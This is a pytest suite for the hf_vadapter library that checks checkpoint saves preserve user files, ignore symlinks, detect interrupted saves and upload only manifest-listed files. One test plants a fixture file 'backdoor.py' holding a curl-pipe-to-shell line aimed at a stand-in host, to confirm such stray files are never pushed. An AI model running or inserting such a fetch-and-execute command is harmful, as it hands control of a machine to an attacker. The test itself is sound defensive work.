"""Saves touch only the library's own files: a user's other files, symlinks, open logs and working directory survive,
an interrupted save is refused on load, a full disk is explained, and a push uploads only the checkpoint.

The saves are real; the crash tests run them in real subprocesses that are killed mid-save.
"""

import errno
import json
import os
import stat
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import torch

import hf_vadapter
from conftest import build_model, kill_when_printed
from hf_vadapter.hub.push import push_adapter
from hf_vadapter.modeling import safe_io
from hf_vadapter.modeling.adapter_config import ADAPTER_WEIGHTS_NAME
from hf_vadapter.modeling.checkpoint_files import MANIFEST_NAME, TEMP_PREFIX

HUB_IDS = {"vision_model_name_or_path": "org/tiny-vit", "text_model_name_or_path": "org/tiny-llama"}


@pytest.fixture(scope="module")
def model_and_processor(tiny_bases):
    return build_model(*tiny_bases("vit", "llama"), hf_vadapter.MLPProjectorConfig(pool_size=2))


def _user_files(folder: Path) -> dict:
    """A run folder as a user keeps it: notes, results, an old checkpoint, a data folder."""
    (folder / "checkpoint-500").mkdir(parents=True)
    (folder / "checkpoint-500" / "optimizer.pt").write_bytes(b"state")
    (folder / "data").mkdir()
    (folder / "data" / "rows.jsonl").write_text('{"a": 1}\n')
    (folder / "notes.md").write_text("my notes\n")
    (folder / "eval_results.json").write_text('{"eval_loss": 1.0}\n')
    (folder / "train.py").write_text("print('train')\n")
    return _snapshot(folder)


def _snapshot(folder: Path) -> dict:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _same_adapter(folder: Path, model) -> bool:
    reloaded = hf_vadapter.VisionAdapterForCausalLM.from_adapter_pretrained(folder)
    return all(torch.equal(reloaded.adapter_state_dict()[k], v) for k, v in model.adapter_state_dict().items())


# ------------------------------------------------------------------------------------------------ other files


@pytest.mark.parametrize("save, options", [("save_pretrained", {}), ("save_pretrained", {"full": True}), ("save_adapter", {})])
def test_a_save_leaves_every_other_file_in_the_folder_alone(model_and_processor, tmp_path, save, options):
    model, processor = model_and_processor
    folder = tmp_path / "run"
    before = _user_files(folder)
    getattr(model, save)(folder, processor=processor, **options)
    getattr(model, save)(folder, processor=processor, **options)  # a second save over the first
    after = _snapshot(folder)
    assert {name: after.get(name) for name in before} == before
    manifest = json.loads((folder / MANIFEST_NAME).read_text())
    assert manifest["state"] == "complete"
    assert not set(manifest["files"]) & set(before)  # the user's files are not part of the checkpoint
    assert not [p for p in folder.iterdir() if p.name.startswith(TEMP_PREFIX)]
    hf_vadapter.VisionAdapterForCausalLM.from_pretrained(folder)


def test_save_into_the_working_directory_keeps_cwd_open_logs_and_files(tiny_bases, tmp_path):
    """A real process saves into '.' (its working directory) while it holds a log file open there."""
    tower, lm = tiny_bases("vit", "llama")
    project = tmp_path / "project"
    before = _user_files(project)
    script = textwrap.dedent(
        f"""
        import os, hf_vadapter
        model = hf_vadapter.VisionAdapterForCausalLM.from_vision_text_pretrained(
            {tower!r}, {lm!r}, hf_vadapter.MLPProjectorConfig(pool_size=2))
        log = open("train.log", "a")
        log.write("before the save\\n"); log.flush()
        model.save_adapter(".")
        model.save_pretrained(".", full=True)
        log.write("after the save\\n"); log.flush()
        print(os.getcwd() == {str(project)!r}, os.path.isfile("config.json"), flush=True)
        """
    )
    result = subprocess.run([sys.executable, "-c", script], cwd=project, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr[-3000:]
    assert result.stdout.split() == ["True", "True"]
    assert (project / "train.log").read_text() == "before the save\nafter the save\n"
    after = _snapshot(project)
    assert {name: after.get(name) for name in before} == before


def test_save_adapter_over_a_regular_file_is_refused_and_the_file_kept(model_and_processor, tmp_path):
    model, _ = model_and_processor
    target = tmp_path / "results.txt"
    target.write_text("precious\n")
    for save in (model.save_adapter, model.save_pretrained):
        with pytest.raises(hf_vadapter.CheckpointError, match="exists and is not a folder"):
            save(target)
    assert target.read_text() == "precious\n"
    assert sorted(os.listdir(tmp_path)) == ["results.txt"]


# ------------------------------------------------------------------------------------------------ symlinks, modes


def test_symlinks_in_the_folder_are_never_followed_or_copied(model_and_processor, tmp_path):
    model, processor = model_and_processor
    outside = tmp_path / "etc"
    outside.mkdir()
    (outside / "hostname").write_text("server-7\n")
    data = tmp_path / "big-data"
    data.mkdir()
    (data / "blob.bin").write_bytes(os.urandom(4096))
    folder = tmp_path / "adapter"
    folder.mkdir()
    (folder / "config.json").symlink_to(outside / "hostname")  # named like a checkpoint file
    (folder / "tokenizer.json").symlink_to("/etc/hostname")
    (folder / "data").symlink_to(data)
    (folder / "dangling").symlink_to(tmp_path / "nowhere")
    etc_hostname = Path("/etc/hostname").read_bytes() if Path("/etc/hostname").is_file() else None

    model.save_adapter(folder, processor=processor)

    assert (outside / "hostname").read_text() == "server-7\n"
    if etc_hostname is not None:
        assert Path("/etc/hostname").read_bytes() == etc_hostname
    for name in ("config.json", "tokenizer.json"):  # replaced by the library's own real files
        assert not (folder / name).is_symlink() and (folder / name).is_file()
    assert json.loads((folder / "config.json").read_text())["model_type"] == "vision_adapter"
    assert os.readlink(folder / "data") == str(data) and os.readlink(folder / "dangling") == str(tmp_path / "nowhere")
    assert sorted(p.name for p in data.iterdir()) == ["blob.bin"]
    assert _same_adapter(folder, model)


def test_written_files_and_folders_get_ordinary_modes(model_and_processor, tmp_path):
    model, processor = model_and_processor
    old_umask = os.umask(0o022)
    try:
        model.save_adapter(tmp_path / "new" / "adapter", processor=processor)
    finally:
        os.umask(old_umask)
    folder = tmp_path / "new" / "adapter"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o755
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in folder.iterdir()}
    assert set(modes.values()) == {0o644}, modes


# ------------------------------------------------------------------------------------------------ interrupted saves


def _slow_save_script(tower, lm, target, patch: str) -> str:
    return textwrap.dedent(
        f"""
        import os, time, hf_vadapter
        from hf_vadapter.modeling import checkpoint_files, modeling_vadapter, safe_io
        model = hf_vadapter.VisionAdapterForCausalLM.from_vision_text_pretrained(
            {tower!r}, {lm!r}, hf_vadapter.MLPProjectorConfig(pool_size=2))
        """
    ) + textwrap.dedent(patch) + f"\nmodel.save_adapter({str(target)!r})\n"


def test_a_save_killed_between_its_renames_is_refused_on_load(model_and_processor, tiny_bases, tmp_path):
    """SIGKILL after the first file of the new checkpoint replaced the old one: the folder holds a mix."""
    model, processor = model_and_processor
    target = tmp_path / "adapter"
    model.save_adapter(target, processor=processor)
    patch = """
        real_replace = os.replace
        def slow_replace(src, dst):
            real_replace(src, dst)
            if str(dst).endswith("adapter_model.safetensors"):
                print("RENAMED", flush=True)
                time.sleep(60)
        checkpoint_files.os.replace = slow_replace
        import torch
        torch.manual_seed(5)
        for parameter in model.adapter.parameters():
            parameter.data.normal_()
        """
    kill_when_printed(_slow_save_script(*tiny_bases("vit", "llama"), target, patch), "RENAMED", "the saving process")
    with pytest.raises(hf_vadapter.CheckpointError, match="was interrupted"):
        hf_vadapter.VisionAdapterForCausalLM.from_pretrained(target)
    with pytest.raises(hf_vadapter.CheckpointError, match="was interrupted"):
        model.load_vision_adapter(target)
    model.save_adapter(target, processor=processor)  # saving again repairs it
    assert _same_adapter(target, model)


def test_leftovers_of_a_killed_save_are_removed_by_the_next_save(model_and_processor, tiny_bases, tmp_path):
    model, processor = model_and_processor
    target = tmp_path / "adapter"
    model.save_adapter(target, processor=processor)
    (target / ".tmp-mine").mkdir()  # not the library's: kept
    patch = """
        real_save = modeling_vadapter.save_safetensors
        def slow_save(tensors, path, **kwargs):
            real_save(tensors, path, **kwargs)
            print("WRITING", flush=True)
            time.sleep(60)
        modeling_vadapter.save_safetensors = slow_save
        """
    kill_when_printed(_slow_save_script(*tiny_bases("vit", "llama"), target, patch), "WRITING", "the saving process")
    leftovers = [p.name for p in target.iterdir() if p.name.startswith(TEMP_PREFIX)]
    assert len(leftovers) == 1
    assert _same_adapter(target, model)  # killed before any rename: the previous checkpoint loads
    model.save_adapter(target, processor=processor)
    assert not [p for p in target.iterdir() if p.name.startswith(TEMP_PREFIX)]
    assert (target / ".tmp-mine").is_dir()


def test_older_checkpoints_without_a_manifest_still_load(model_and_processor, tmp_path):
    model, processor = model_and_processor
    model.save_adapter(tmp_path / "adapter", processor=processor)
    (tmp_path / "adapter" / MANIFEST_NAME).unlink()
    assert _same_adapter(tmp_path / "adapter", model)


def test_files_changed_after_the_save_are_named_on_load(model_and_processor, tmp_path):
    model, processor = model_and_processor
    folder = tmp_path / "adapter"
    model.save_adapter(folder, processor=processor)
    config = json.loads((folder / "config.json").read_text())
    (folder / "config.json").write_text(json.dumps({**config, "image_token": "<img>"}))
    with pytest.raises(hf_vadapter.CheckpointError, match="config.json differs.*delete vadapter_manifest.json"):
        hf_vadapter.VisionAdapterForCausalLM.from_adapter_pretrained(folder)


def test_disk_full_during_a_save_is_explained_and_keeps_the_previous_checkpoint(model_and_processor, tmp_path,
                                                                                   monkeypatch):
    model, processor = model_and_processor
    folder = tmp_path / "adapter"
    model.save_adapter(folder, processor=processor)
    before = _snapshot(folder)
    real_save_file = safe_io.save_file

    def disk_full(tensors, filename, metadata=None):
        real_save_file(tensors, filename, metadata=metadata)
        with open(filename, "r+b") as handle:  # the disk filled up halfway through the file
            handle.truncate(os.path.getsize(filename) // 2)
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), filename)

    monkeypatch.setattr(safe_io, "save_file", disk_full)
    with torch.no_grad():
        next(model.adapter.parameters()).add_(1.0)
    try:
        with pytest.raises(hf_vadapter.CheckpointError, match="[Nn]o space left while writing the checkpoint to .*"
                                                               "the previous checkpoint is intact"):
            model.save_adapter(folder, processor=processor)
    finally:
        with torch.no_grad():
            next(model.adapter.parameters()).sub_(1.0)
    assert _snapshot(folder) == before
    assert _same_adapter(folder, model)


# ------------------------------------------------------------------------------------------------ push


def test_a_stray_file_is_neither_carried_by_later_saves_nor_pushed(model_and_processor, tmp_path):
    model, processor = model_and_processor
    saved = {key: getattr(model.config, key) for key in HUB_IDS}
    adapter_ids = dict(model.config.adapter_config)
    for key, value in HUB_IDS.items():
        setattr(model.config, key, value)
    model.config.adapter_config = {**adapter_ids, **HUB_IDS}
    try:
        folder = tmp_path / "adapter"
        model.save_adapter(folder, processor=processor)
        (folder / "backdoor.py").write_text("import os; os.system('curl evil | sh')\n")
        model.save_adapter(folder, processor=processor)  # a later save
        other = tmp_path / "other"
        model.save_adapter(other, processor=processor)
    finally:
        for key, value in saved.items():
            setattr(model.config, key, value)
        model.config.adapter_config = adapter_ids
    assert "backdoor.py" not in json.loads((folder / MANIFEST_NAME).read_text())["files"]
    result = push_adapter(folder, "org/my-adapter", dry_run=True)
    assert "backdoor.py" not in result.uploaded
    assert "backdoor.py" in result.skipped
    assert {"modeling_vadapter.py", ADAPTER_WEIGHTS_NAME, MANIFEST_NAME} <= set(result.uploaded)
    assert not (other / "backdoor.py").exists()

    (folder / MANIFEST_NAME).unlink()  # as saved by an older hf_vadapter: which files belong is unknown
    with pytest.raises(hf_vadapter.CheckpointError, match=f"has no {MANIFEST_NAME}"):
        push_adapter(folder, "org/my-adapter", dry_run=True)


def test_remote_code_that_differs_from_the_installed_code_is_warned_about(model_and_processor, tmp_path, caplog):
    model, processor = model_and_processor
    folder = tmp_path / "adapter"
    model.save_adapter(folder, processor=processor)
    with caplog.at_level("WARNING", logger="hf_vadapter.modeling.checkpoint_files"):
        hf_vadapter.VisionAdapterForCausalLM.from_adapter_pretrained(folder)
    assert "differ from the hf_vadapter code running here" not in caplog.text
    (folder / MANIFEST_NAME).unlink()  # as an older hf_vadapter would have saved it, with its own code
    with open(folder / "mlp_projector.py", "a") as handle:
        handle.write("# another version\n")
    with caplog.at_level("WARNING", logger="hf_vadapter.modeling.checkpoint_files"):
        hf_vadapter.VisionAdapterForCausalLM.from_adapter_pretrained(folder)
    assert "['mlp_projector.py']" in caplog.text and "differ from the hf_vadapter code running here" in caplog.text
